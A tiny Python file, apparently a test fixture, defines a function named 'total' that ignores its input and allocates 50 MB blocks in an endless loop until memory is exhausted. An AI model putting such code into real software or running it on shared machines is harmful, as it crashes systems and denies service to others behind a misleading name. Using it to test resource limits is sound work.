"""Takes memory without end."""


def total(numbers):
    taken = []
    while True:
        taken.append(bytearray(50_000_000))
